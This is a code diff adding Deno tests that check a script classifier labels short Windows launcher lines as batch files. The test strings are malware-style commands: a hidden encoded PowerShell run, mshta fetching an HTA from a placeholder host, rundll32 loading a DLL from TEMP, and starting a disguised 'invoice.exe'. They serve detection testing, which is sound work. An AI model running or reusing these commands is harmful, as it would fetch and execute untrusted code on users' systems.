@@ -130,3 +130,16 @@ Deno.test({
     );
   },
 });
+
+for (
+  const shim of [
+    "powershell -w hidden -enc SQBFAFgA\r\n",
+    '@start "" mshta http://example.invalid/a.hta\r\n',
+    "rundll32.exe %TEMP%\\x.dll,Start\r\n",
+    "cmd /c start /b %TEMP%\\invoice.exe\r\n",
+  ]
+) {
+  Deno.test(`sniffBytes() calls the one-line shim ${JSON.stringify(shim.trim())} a batch file`, () => {
+    assert.equal(scriptKind(shim), "batch");
+  });
+}
